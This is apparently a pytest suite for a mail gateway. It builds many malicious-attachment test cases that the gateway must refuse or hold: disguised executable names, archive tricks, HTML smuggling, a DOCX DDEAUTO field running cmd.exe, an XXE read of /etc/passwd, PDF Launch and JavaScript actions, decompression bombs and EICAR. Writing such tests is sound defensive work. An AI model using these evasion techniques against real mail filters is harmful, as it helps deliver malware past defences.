"""Attachments that are not what they seem: refused or held, never with the mail server."""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import time
import zipfile

import pytest

from tests.attacks.mail import EICAR, LETTER, PROGRAM, SAID, attached, joined, lines, mail, multipart, part, zipped

TEXT = b"Hello.\r\n"
EXTENSIONS = """
    ade adp app application appref-ms bas bat chm cmd cnt com cpl crt diagcab exe gadget hlp hta inf ins iso isp
    jar jnlp js jse ksh lnk mad maf mam mat mcf mda mdb mde msc msh msi msp mst pif pl ps1 ps2 psc1 reg scf scr
    sct settingcontent-ms shb shs theme url vb vbe vbs vhd vhdx wsc wsf wsh xll
""".split()
DOCX = (
    "[Content_Types].xml",
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
)


def docx(*members):
    return zipped(DOCX, ("word/document.xml", b"<w:document/>"), *members)


def relation(kind, target):
    said = f'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
    return (
        f'<?xml version="1.0"?><Relationships>{said} Target="{target}" TargetMode="External"/></Relationships>'.encode()
    )


def pdf(*objects):
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, each) for number, each in enumerate(objects, 1))
    return b"%PDF-1.4\n" + body + b"trailer\n<</Root 1 0 R/Size 9>>\n%%EOF\n"


def tar(*members):
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for member in members:
            archive.addfile(member, io.BytesIO(b"x" * member.size))
    return made.getvalue()


def member(name, kind=tarfile.REGTYPE, target="", size=0):
    found = tarfile.TarInfo(name)
    found.type, found.linkname, found.size = kind, target, size
    return found


def patched(octets, at, value):
    return octets[:at] + value + octets[at + len(value) :]


def encrypted(octets):
    """Says of its first member that a password is needed."""
    central = octets.index(b"PK\x01\x02")
    return patched(patched(octets, 6, b"\x01\x00"), central + 8, b"\x01\x00")


def nested(octets, levels, name="inner.zip"):
    for _ in range(levels):
        octets = zipped((name, octets))
        name = "inner.zip"
    return octets


OCTETS = b"Content-Type: application/octet-stream"
PACKAGE = b"{\\*\\objdata 0105000002000000080000005061636b6167650000000000" + PROGRAM.hex().encode() + b"}"
RUNS = b'<w:document><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:document>'
ENTITIES = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
EICAR_QP = EICAR.replace(b"=", b"=3D") + b"\r\n"
EMPTY_PDF = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"
ZIP = zipped(("order.txt", b"Hello there, hello there.\r\n" * 9))
EXE_ZIP = zipped(("order.exe", PROGRAM))
ISO = bytes(32768) + b"\x01CD001\x01" + bytes(2041) + b"\xffCD001\x01" + bytes(2041)
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(80)
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1000)
FILE_IN_ONENOTE = (
    bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<Q", len(PROGRAM)) + bytes(12) + PROGRAM
)
SMUGGLING = (
    b"<html><body><script>var b=atob('" + lines(PROGRAM).replace(b"\r\n", b"") + b"');var a=new Uint8Array(b.length);"
    b"var u=URL.createObjectURL(new Blob([a]));var l=document.createElement('a');l.href=u;l.download='order.exe';"
    b"l.click();</script></body></html>"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>location="http://sender.test/"</script></svg>'
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)

CASES = {
    # names that hide what a program is
    **{
        f"attach_01 {word}": attached(name, PROGRAM)
        for word, name in {
            "text": b"order.txt", "double": b"order.pdf.exe", "dot": b"order.exe.", "blank": b"order.exe ",
            "path": b"C:\\temp\\order.exe", "stream": b"order.txt:order.exe", "data": b"order.exe::$DATA",
            "direction": "order\u202etxt.exe".encode(), "wide dot": "order\uff0eexe".encode(),
            "long": b"a" * 3000 + b".exe",
            "blanks": b"order.pdf" + b" " * 100 + b".exe",
        }.items()
    },
    "attach_01 direction in an encoded word": attached(b"=?utf-8?q?order=E2=80=AEfdp=2Eexe?=", TEXT),
    "attach_01 direction in RFC 2231": multipart(
        SAID, part(TEXT, fields=b"Content-Disposition: attachment; filename*=utf-8''order%E2%80%AEfdp.exe\r\n")
    ),
    # names in pieces
    **{
        f"attach_02 {word}": multipart(SAID, part(TEXT, fields=OCTETS + said + b"\r\n"))
        for word, said in {
            "split": b"; name*0=order.e; name*1=xe", "out of order": b"; name*1=xe; name*0=order.e",
            "both forms": b"; name=order.txt; name*=utf-8''order.exe",
            "duplicate": b"; name=order.txt; name=order.exe",
            "percent dot": b"; name*=utf-8''order%2Eexe", "UTF-16": b"; name*=utf-16be''%00a%00.%00e%00x%00e",
            "language": b"; name*=utf-8'en-gb'order.exe",
            "name and filename": b'; name=order.txt\r\nContent-Disposition: attachment; filename="order.exe"',
            "the other way": b'; name=order.exe\r\nContent-Disposition: attachment; filename="order.txt"',
        }.items()
    },
    **{f"attach_03 {ending}": attached(b"order." + ending.encode(), TEXT) for ending in EXTENSIONS},
    # archives
    "attach_04 zip": attached(b"a.zip", EXE_ZIP),
    "attach_04 tar": attached(b"a.tar", tar(member("order.exe", size=9))),
    "attach_04 gz": attached(b"order.exe.gz", gzip.compress(PROGRAM)),
    "attach_04 bz2": attached(b"order.exe.bz2", bz2.compress(PROGRAM)),
    "attach_04 xz": attached(b"order.exe.xz", lzma.compress(PROGRAM)),
    "attach_04 zip in zip in zip": attached(b"a.zip", nested(PROGRAM, 3, "order.exe")),
    "attach_04 uuencode": mail(b"", b"begin 644 order.exe\r\n#35IS\r\n`\r\nend\r\n"),
    "attach_06 encrypted": attached(b"a.zip", encrypted(ZIP)),
    "attach_06 encrypted program": attached(b"a.zip", encrypted(EXE_ZIP)),
    # archives that programs unpack differently
    "attach_07 names differ": attached(b"a.zip", ZIP.replace(b"order.txt", b"order.exe", 1)),
    "attach_07 two archives": attached(b"a.zip", ZIP + EXE_ZIP),
    "attach_07 two archives the other way": attached(b"a.zip", EXE_ZIP + ZIP),
    "attach_07 before it": attached(b"a.zip", b"x" * 100 + EXE_ZIP),
    "attach_07 no directory": attached(b"a.zip", EXE_ZIP[: EXE_ZIP.index(b"PK\x01\x02")]),
    "attach_07 lies about sizes": attached(b"a.zip", patched(ZIP, ZIP.index(b"PK\x01\x02") + 24, b"\x01\x00\x00\x00")),
    "attach_09 above": attached(b"a.zip", zipped(("../../order.txt", b"x"))),
    "attach_09 symbolic link": attached(b"a.tar", tar(member("a", tarfile.SYMTYPE, "/etc/passwd"))),
    "attach_09 device": attached(b"a.tar", tar(member("a", tarfile.CHRTYPE))),
    "attach_10 no archive at all": attached(b"a.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\xff" * 60),
    # images of disks
    "attach_11 iso": attached(b"a.iso", ISO),
    "attach_11 iso by content": attached(b"a.jpg", ISO, b"image/jpeg"),
    "attach_11 vhd by content": attached(b"a.dat", b"conectix" + bytes(2000)),
    "attach_11 vhdx by content": attached(b"a.dat", b"vhdxfile" + bytes(2000)),
    # documents
    "attach_12 shortcut by content": attached(b"a.dat", LNK),
    "attach_12 notebook with a program": attached(b"a.one", ONENOTE + FILE_IN_ONENOTE),
    "attach_12 rtf with an object": attached(
        b"a.rtf", b"{\\rtf1{\\object\\objemb" + PACKAGE + b"}}"
    ),
    "attach_12 rtf with a broken header": attached(
        b"a.doc", b"{\\rt{\\object\\objemb\\objupdate" + PACKAGE + b"}}"
    ),
    "attach_12 mht with a program": attached(b"a.mht", multipart(SAID, part())),
    "attach_13 remote template": attached(
        b"a.docx", docx(("word/_rels/settings.xml.rels", relation("attachedTemplate", "http://sender.test/a.dotm")))
    ),
    "attach_13 hidden macros": attached(
        b"a.docx", docx(("word/other.bin", OLE), ("word/vbaProject.bin", b"x"))
    ),
    "attach_13 link that runs": attached(
        b"a.docx", zipped(DOCX, ("word/document.xml", RUNS))
    ),
    "attach_13 entities": attached(
        b"a.docx", zipped(DOCX, ("word/document.xml", ENTITIES))
    ),
    "attach_14 script": attached(
        b"a.pdf", pdf(b"<</Type/Catalog/OpenAction 2 0 R>>", b"<</S/JavaScript/JS(app.alert\\(1\\))>>")
    ),
    "attach_14 written otherwise": attached(
        b"a.pdf", pdf(b"<</Type/Catalog/Open#41ction 2 0 R>>", b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>")
    ),
    "attach_14 launch": attached(
        b"a.pdf", pdf(b"<</Type/Catalog/OpenAction 2 0 R>>", b"<</S/Launch/F(cmd.exe)>>")
    ),
    "attach_14 header further on": attached(
        b"a.pdf", b"x" * 500 + pdf(b"<</Type/Catalog/OpenAction 2 0 R>>", b"<</S/Launch/F(cmd.exe)>>")
    ),
    "attach_14 and an archive": attached(b"a.pdf", pdf(b"<</Type/Catalog>>") + EXE_ZIP),
    "attach_15 smuggling": attached(b"a.html", SMUGGLING, b"text/html"),
    "attach_15 svg": attached(b"a.svg", SVG, b"image/svg+xml"),
    "attach_15 svgz": attached(b"a.svgz", gzip.compress(SVG), b"image/svg+xml"),
    "attach_16 picture and archive": attached(b"a.gif", GIF + ZIP, b"image/gif"),
    # a virus for tests
    "attach_17 plain": attached(b"a.txt", EICAR),
    "attach_17 quoted-printable": multipart(SAID, part(EICAR_QP, encoding=b"quoted-printable")),
    "attach_17 in a message": multipart(SAID, b"Content-Type: message/rfc822\r\n\r\n" + attached(b"a.txt", EICAR)),
    "attach_17 in archives": attached(b"a.zip", nested(EICAR, 3, "a.txt")),
}  # fmt: skip


@pytest.mark.parametrize("content", CASES.values(), ids=CASES)
def test_it_is_refused_or_held(inspecting, content):
    inspecting.assert_not_delivered(content)


def messages_within(levels, inner):
    for level in range(levels):
        inner = mail(b'Content-Type: multipart/mixed; boundary="n%d"\r\n' % level, joined(
            SAID, b"Content-Type: message/rfc822\r\n\r\n" + inner, boundary=b"n%d" % level
        ))  # fmt: skip
    return inner


@pytest.mark.parametrize("levels", [8, 100])
def test_attach_17_in_messages_within_messages(inspecting, levels):
    inspecting.assert_not_delivered(messages_within(levels, attached(b"a.txt", EICAR)))


def many_entries(count):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for number in range(count):
            archive.writestr(f"{number}", b"")
    return made.getvalue()


BOMBS = {
    "attach_08 zeros in zip": lambda: attached(b"a.zip", zipped(("a", bytes(100_000_000)))),
    "attach_08 zeros in gz": lambda: attached(b"a.gz", gzip.compress(bytes(200_000_000))),
    "attach_08 zeros in bz2": lambda: attached(b"a.bz2", bz2.compress(bytes(200_000_000))),
    "attach_08 zeros in xz": lambda: attached(b"a.xz", lzma.compress(bytes(200_000_000))),
    "attach_08 entries": lambda: attached(b"a.zip", many_entries(6000)),
    "attach_08 archives within archives": lambda: attached(b"a.zip", nested(b"x", 33)),
    "dos_08 fields": lambda: LETTER + b"X-A: b\r\n" * 4900 + b"\r\n" + b"x\r\n",
    "dos_09 parts": lambda: multipart(*[SAID] * 5000),
    "dos_09 multiparts within multiparts": lambda: mail(
        b"Content-Type: multipart/mixed; boundary=b0\r\n",
        b"".join(b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % (n, n + 1) for n in range(3000)),
    ),
    "dos_11 comments": lambda: mail(b"Content-Type: text/plain; a=" + b"(" * 3000 + b"\r\n", TEXT),
}


@pytest.mark.parametrize("made", BOMBS.values(), ids=BOMBS)
def test_what_is_too_much_costs_little_time(inspecting, made):
    content = made()
    begun = time.monotonic()
    reply = inspecting.deliver(content)
    assert time.monotonic() - begun < 15 and reply.code != 451
    inspecting.serve_somebody()


@pytest.mark.parametrize("name", [name for name in BOMBS if name.startswith("attach")])
def test_what_is_too_much_to_be_looked_into_is_held(inspecting, name):
    inspecting.assert_not_delivered(BOMBS[name]())


HARMLESS = {
    "a text": attached(b"a.txt", b"Hello.\r\n", b"text/plain"),
    "an archive": attached(b"a.zip", ZIP, b"application/zip"),
    "a document": attached(b"a.docx", docx()),
    "a picture": attached(b"a.gif", GIF, b"image/gif"),
    "a PDF": attached(b"a.pdf", pdf(*EMPTY_PDF), b"application/pdf"),
    "names with many dots": attached(b"report.v1.2.2026.pdf.txt", b"Hello.\r\n"),
}  # fmt: skip


@pytest.mark.parametrize("content", HARMLESS.values(), ids=HARMLESS)
def test_what_is_harmless_passes(inspecting, content):
    inspecting.assert_delivered(content)
